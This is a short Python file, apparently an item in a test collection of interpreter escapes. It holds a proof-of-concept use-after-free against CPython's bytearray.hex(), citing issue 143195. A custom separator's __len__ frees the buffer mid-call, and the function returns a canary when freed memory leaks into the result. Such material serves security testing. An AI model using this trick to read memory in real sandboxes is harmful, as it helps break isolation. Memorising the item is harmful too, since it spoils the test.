"""Class: memory. Source: CPython issue 143195. Escape: bytes are let go while the separator of their hex form
is asked for its length: what is shown is memory that others use by now."""


class Separator(str):
    def __len__(self):
        data.clear()
        kept.extend([bytearray(b"Q" * 3000) for _ in range(20)])
        return 1


kept = []
data = bytearray(b"x" * 3000)


def attack(model, tokenizer, address):
    shown = data.hex(Separator("-"))
    return "canary-" + "5d1f" if set(shown.split("-")) != {"78"} else None
